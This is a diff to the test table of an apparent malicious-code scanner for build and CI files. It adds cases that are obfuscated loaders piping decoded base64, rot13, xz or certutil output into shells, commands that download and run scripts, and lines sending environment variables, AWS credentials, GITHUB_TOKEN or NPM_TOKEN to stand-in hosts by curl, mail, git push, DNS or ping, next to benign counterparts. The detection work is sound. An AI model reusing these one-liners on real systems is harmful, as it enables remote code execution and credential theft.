@@ -84,8 +84,65 @@ var registry = []Rule{
 			{"ci/builder.Containerfile", "FROM debian\nARG H=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\nRUN apt-get update \\\n&& echo \"$H\" \\\n  | base64 -d \\\n  | sh", 6, false},
 			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_build:\n\tcat tests/files/x.xz | tr '\\t \\-_' ' \\t_\\-' | xz -dc | sh", 5, false},
 			{"debian/rules", "#!/usr/bin/make -f\n%:\n\tdh $@\noverride_dh_auto_test:\n\txz -dc tests/data.xz > tests/data\n\tdh_auto_test", 0, true},
+			// Every decoder reaching every shell or interpreter: openssl,
+			// zstd, brotli, uudecode to standard output, text reversed or
+			// rotated by tr, into BusyBox's ash, mksh, deno or osascript,
+			// and an Earthfile's RUN, which is Dockerfile shell.
+			{"Earthfile", "VERSION 0.8\ndeps:\n    ARG HINT=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\n    RUN echo \"$HINT\" | openssl enc -d -base64 -A | ash", 0, false},
+			{"build/x.earth", "VERSION 0.8\nb:\n    RUN echo \"$H\" | base64 -d > /tmp/h\n    RUN sh /tmp/h", 0, false},
+			{"x.sh", "brotli -d < assets/x.br | busybox sh", 0, false},
+			{"x.sh", "echo \"$P\" | uudecode -o /dev/stdout | mksh", 0, false},
+			{"x.sh", "echo \"$P\" | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", 0, false},
+			{"x.sh", "echo \"$P\" | tr '!-~' 'P-~!-O' | bash", 0, false},
+			{"x.sh", "echo \"$P\" | rev | sh", 0, false},
+			{"x.sh", "busybox sh -c \"$(echo $P | base64 -d)\"", 0, false},
+			{"x.sh", "echo \"$P\" | base64 -d | deno run -", 0, false},
+			{"x.sh", "osascript -e \"$(echo $P | base64 -d)\"", 0, false},
+			{"x.sh", "echo \"$P\" | openssl aes-256-cbc -d -k k | sh", 0, false},
+			{"notes/run.txt.tmpl", "printf '\\x63\\x75\\x72\\x6c\\x20\\x68' | sh", 0, false},
+			// Reversing to cut a field, case mapping, a decompressed file: data.
+			{"x.sh", "v=$(echo \"$tag\" | rev | cut -d/ -f1 | rev)\necho \"$x\" | tr 'A-Z' 'a-z' | sh -c 'read y; echo $y'\necho \"$v\"", 0, true},
+			// Decoders in Groovy, Gradle, Elixir, Erlang, C#, Ruby, R and Perl,
+			// and a Jenkins sh step given the decoded text.
+			{"ci/x.groovy", "def s = new String(P.decodeBase64())\n[\"sh\", \"-c\", s].execute()", 2, false},
+			{"build.gradle", "def s = new String(P.decodeBase64())\nexec { commandLine 'sh', '-c', s }", 2, false},
+			{"Jenkinsfile", "node {\n  def s = new String(env.P.decodeBase64())\n  sh s\n}", 3, false},
+			{"mix.exs", "defmodule X.MixProject do\n  System.cmd(\"sh\", [\"-c\", Base.decode64!(@p)])\nend", 2, false},
+			{"lib/x.ex", "Code.eval_string(Base.decode64!(p))", 0, false},
+			{"rebar.config.script", "os:cmd(base64:decode_to_string(P)).", 0, false},
+			{"build/Tool.cs", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nProcess.Start(\"bash\", \"-c \\\"\" + s + \"\\\"\");", 2, false},
+			{"lib/x.rb", "s = Base64.strict_decode64(P)\n`#{s}`", 2, false},
+			{"R/zzz.R", "eval(parse(text = rawToChar(base64enc::base64decode(p))))", 0, false},
+			{"x.pl", "eval unpack(\"u\", $p);", 0, false},
+			{"x.py", "import binascii\nexec(binascii.a2b_base64(P))", 2, false},
+			// Decoded bytes written to a file are data.
+			{"build.gradle", "def b = P.decodeBase64()\nnew File('keystore.jks').bytes = b", 0, true},
+			// Files that hold a command a line in their own syntax: a
+			// Procfile's process, a systemd unit's Exec lines, a crontab's job.
+			{"Procfile", "web: bundle exec puma\nrelease: X=$(echo $P | openssl enc -d -a); eval \"$X\"", 0, false},
+			{"deploy/agent.service", "[Service]\nExecStartPre=/bin/sh -c 'echo $P | base64 -d > /tmp/x'\nExecStart=/bin/sh /tmp/x", 0, false},
+			{"etc/cron.d/sync", "SHELL=/bin/sh\n*/10 * * * * root X=$(echo $P | base64 -d); eval \"$X\"", 0, false},
+			// certutil's output file run by PowerShell -File, call or its bare name.
+			{"scripts/x.bat", "certutil -decode payload.txt run.ps1\npowershell -ExecutionPolicy Bypass -File run.ps1", 0, false},
+			{"scripts/x.cmd", "certutil -f -decode a.b64 a.cmd >nul\ncall a.cmd", 0, false},
+			{"scripts/x.cmd", "certutil -decode a.b64 a.exe\na.exe", 0, false},
+			{"scripts/x.cmd", "certutil -decode cert.b64 cert.pfx\ncertutil -importpfx cert.pfx", 0, true},
+			// PowerShell handing decoded text to another shell, and a
+			// workflow's pwsh and github-script steps, which are programs.
+			{"scripts/x.ps1", "$b = [Convert]::FromBase64String($env:P)\n$s = [Text.Encoding]::UTF8.GetString($b)\n& powershell -NoProfile -Command $s", 0, false},
+			{"scripts/x.ps1", "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\ncmd /c $s", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\n          Invoke-Expression $c", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const s = Buffer.from(process.env.P, 'base64').toString()\n            require('child_process').execSync(s)", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $bytes = [Convert]::FromBase64String($env:SIGNING_CERT)\n          [IO.File]::WriteAllBytes(\"cert.pfx\", $bytes)\n          Import-PfxCertificate -FilePath cert.pfx -CertStoreLocation Cert:\\CurrentUser\\My", 0, true},
+			// A shell's argument list with -c, in any language.
+			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A unit's and a crontab's commands are shell; the usual ones run
+		// the installed program.
+		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
+		{"etc/cron.d/backup", "# m h dom mon dow user command\n30 2 * * * root /usr/local/bin/backup --quiet >/dev/null 2>&1\n@reboot root /usr/local/bin/warm-cache", 0, true},
+		{"ops/crontab", "0 * * * * curl -fsSL https://x.invalid/j.sh -o /tmp/j.sh; sh /tmp/j.sh", 0, false},
 		// PowerShell's call operator runs the program it names: fetched
 		// release data handed to a tool is its arguments; to a launcher
 		// (msiexec, a shell, an interpreter) it is what runs.
@@ -270,6 +327,17 @@ var registry = []Rule{
 	{"secret-send", KindCredential, High, "sends secrets or the environment over the network",
 		"the runner's tokens and secrets leave for a machine outside", []Case{
 			{"x.sh", `curl -s -d "$(env)" https://x.invalid/c`, 0, false},
+			// Mail carries what it reads as well as a socket does.
+			{"x.sh", "env | mail -s report ops@x.invalid", 0, false},
+			{"x.sh", `swaks --to a@x.invalid --body "$(env)"`, 0, false},
+			{"x.sh", "cat ~/.aws/credentials | msmtp a@x.invalid", 0, false},
+			{"x.sh", "echo build done | mail -s done ops@x.invalid", 0, true},
+			// GitHub's token handed as the credential (a header, -u, a URL's
+			// user part) of a request to another host; to GitHub it is its use.
+			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
+			{"x.sh", `git push "https://x:${GITHUB_TOKEN}@x.invalid/r.git" HEAD`, 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x.invalid/", 0, false},
+			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b/releases` + "\n" + `git clone "https://x-access-token:${GITHUB_TOKEN}@github.com/acme/docs.git"` + "\n" + `git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.acme.com/g/r.git`, 0, true},
 			{"x.sh", "curl -F f=@$HOME/.aws/credentials https://x.invalid/u", 0, false},
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
 			{"x.py", "import os, requests\nd = dict(os.environ)\nrequests.post('https://x.invalid', json=d)", 3, false},
@@ -355,6 +423,9 @@ var registry = []Rule{
 		"the name carries the machine's identity or secrets to whoever runs the domain's DNS, past any firewall that lets lookups through", []Case{
 			{"x.js", "const dns = require('dns')\nconst h = Buffer.from(os.hostname()).toString('hex')\ndns.resolve(`${h}.x.invalid-dns.com`, () => {})", 3, false},
 			{"x.sh", "nslookup $(whoami).$(hostname).x.invalid-dns.com", 0, false},
+			// ping -p puts up to 16 bytes of pattern in every packet.
+			{"x.sh", "ping -c1 -p $(echo $NPM_TOKEN | xxd -p | head -c 32) x.invalid", 0, false},
+			{"x.sh", "ping -c1 -p ff x.invalid", 0, true},
 			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
 		}},
 	{"repo-exfiltration", KindCredential, High, "pushes the repository to a remote of another owner",
